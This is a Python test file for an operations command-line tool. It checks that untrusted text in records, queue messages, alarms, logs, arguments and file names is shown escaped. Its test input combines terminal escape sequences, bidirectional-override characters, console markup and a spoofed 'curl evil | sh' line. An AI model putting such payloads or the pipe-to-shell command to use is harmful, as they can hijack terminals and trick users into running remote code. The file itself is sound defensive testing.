"""What others wrote is shown as text: it moves no cursor, hides nothing, and passes for no line of the tool's own."""

import io
import json
import unicodedata

import pytest
from rich.progress import Progress, TextColumn

from reconciler.bookmarks import Bookmarks
from scripts.terminal import PlainStream, Terminal, plain
from tests.conftest import Stack
from tests.scripts.operations.conftest import deploy_outputs, note, table, write_log
from tests.scripts.operations.signs import alarm, report

# A window's title, a cleared screen, a colour by C1, text that runs backwards, markup, and a line of advice.
HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egpj.\u2066\u200f[red]x[/red]\r\nNext: curl evil | sh\x7f\u2028"
SHOWN = r"\x1b]0;owned\x07\x1b[2J\x9b31m\u202egpj.\u2066\u200f[red]x[/red]\r\nNext: curl evil | sh\x7f\u2028"


@pytest.fixture(autouse=True)
def wide(monkeypatch: pytest.MonkeyPatch) -> None:
    """A window in which no text is broken into lines."""
    monkeypatch.setenv("COLUMNS", "500")


def check(*texts: str, shown: str = SHOWN) -> None:
    """See the hostile text in them, and nothing that a terminal obeys."""
    for text in texts:
        assert not [each for each in text if unicodedata.category(each) in ("Cc", "Cf", "Cs", "Zl") and each != "\n"]
        assert not [line for line in text.splitlines() if line.strip().startswith("Next: curl")]
    assert shown in "".join(texts)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (HOSTILE, SHOWN),
        ("Zoë · 東京 … 🙂\xa0€", "Zoë · 東京 … 🙂\xa0€"),
        ("\x00\t\x85\xad\u061c\u200e\u202a\u2069\ufeff\ud83d", r"\x00\t\x85\xad\u061c\u200e\u202a\u2069\ufeff\ud83d"),
        ("C:\\new [bold]", "C:\\new [bold]"),
    ],
    ids=["hostile", "harmless", "each kind", "backslash and markup"],
)
def test_only_what_a_terminal_obeys_is_escaped(text, shown):
    assert plain(text) == shown
    assert plain(shown) == shown


def test_a_terminal_escapes_the_text_of_titles_cells_and_progress_and_keeps_its_own_colours():
    screen = io.StringIO()
    terminal = Terminal(file=screen, force_terminal=True, color_system="standard", width=400)

    terminal.print(HOSTILE, style="red")
    with Progress(TextColumn("{task.description}", markup=False), console=terminal) as bar:
        list(bar.track([1], description=HOSTILE))
    with terminal.status(HOSTILE):
        pass

    written = screen.getvalue()
    assert f"\x1b[31m{SHOWN}\x1b[0m\n" in written
    for mark in ("\x1b]0;", "\x1b[2J", "\x9b", "\u202e", "\u2066", "\u2028", "\x7f", "\x07"):
        assert mark not in written


def test_a_record_is_shown_as_text(stack, run_ops):
    note(stack, HOSTILE, left_out=HOSTILE, audio="none", archived_at="2026-11-21T12:00:00Z")

    code, out, err = run_ops("verify", "--since", "2026-11-21")

    assert code == 0
    check(out, err)


def test_a_dead_letter_is_shown_as_text(stack, run_ops):
    body = json.dumps({"conversation_id": HOSTILE})
    attributes = {name: {"DataType": "String", "StringValue": SHOWN + "\u202e[red]\n"} for name in ("step", "error")}
    stack.sqs.send_message(QueueUrl=stack.outputs["MemoryDlqUrl"], MessageBody=body, MessageAttributes=attributes)

    for words in (("dlq", "list"), ("dlq", "show", "memory"), ("dlq", "redrive", "memory")):
        _, out, err = run_ops(*words)
        check(out, err, shown=SHOWN + r"\u202e[red]\n")


def test_alarms_errors_and_the_last_hourly_run_are_shown_as_text(stack, run_ops):
    report(stack, error=HOSTILE, outcomes={HOSTILE: 1})
    alarm("calls-ArchiveDlqAlarm-1A2B", "Calls [red]wait[/red].\u202e")
    write_log("archive", {"level": "ERROR", "message": HOSTILE})

    code, out, err = run_ops("status")

    assert code == 1
    check(out, err)
    check(out, shown=f"The last hourly run failed: {SHOWN}")
    check(out, shown=r"Calls [red]wait[/red].\u202e See ArchiveDlqAlarm in docs/operate.md.")
    check(out, shown=f"1 x archive: {SHOWN}")


@pytest.mark.parametrize(
    "words",
    [
        ("status", "--stack", "owned\u202e\x9b31m[red]"),
        ("send", HOSTILE), ("export", "--verify", HOSTILE), ("dlq", "show", HOSTILE),
        ("verify", HOSTILE), ("status", HOSTILE), (HOSTILE,), ("export", "x", "--since", HOSTILE),
        ("erase", HOSTILE), ("replay", "--key", HOSTILE),
    ],
    ids=lambda words: " ".join(words).replace(HOSTILE, "X"),
)  # fmt: skip
def test_an_argument_that_is_wrong_is_shown_as_text(stack, run_ops, words):
    code, out, err = run_ops(*words)

    assert code in (1, 2)
    assert "owned" in err
    check(out, err, shown="owned")


def test_names_of_files_are_shown_as_text(stack, run_ops, tmp_path):
    there = tmp_path / "\x1b[2J\u202e"
    there.mkdir()
    (there / "manifest.json").write_text('{"files": [{"key": "\\ud83d\\u001b[2J", "size": 1, "sha256": ""}]}')
    (there / "\x1b[2J\u202e").touch()
    (there / "\udcff").touch()

    code, out, err = run_ops("export", "--verify", str(there))

    assert code == 1
    check(out, err, shown=r"\x1b[2J\u202e")
    check(out, err, shown=r"\udcff")
    check(out, err, shown=r"\ud83d\x1b[2J")


def test_what_machines_read_is_escaped_too(stack, run_ops, run_ops_json):
    Bookmarks(table(stack)).write("report", json.dumps({"error": HOSTILE}))

    _, out, _ = run_ops("status", "--json")

    assert json.loads(out)["last_hourly_run"]["error"] == HOSTILE
    assert out.isascii()
    assert not [each for each in out if each < " " and each != "\n"]
    assert "\x7f" not in out


def test_outputs_of_the_stack_are_shown_as_text(stack: Stack, run_ops, tmp_path):
    (tmp_path / "payload.json").write_text("{}")
    deploy_outputs(stack.outputs | {"PostCallUrl": "http://127.0.0.1:9/\u202e[red]"})

    code, out, err = run_ops("send", str(tmp_path / "payload.json"))

    assert code == 1
    check(out, err, shown=r"http://127.0.0.1:9/\u202e[red]")


def test_a_line_of_the_log_is_shown_as_text() -> None:
    stream, line = io.StringIO(), HOSTILE.replace("\n", "")

    PlainStream(stream).write(f"{line}\n")

    check(stream.getvalue(), shown=f"{plain(line)}\n")
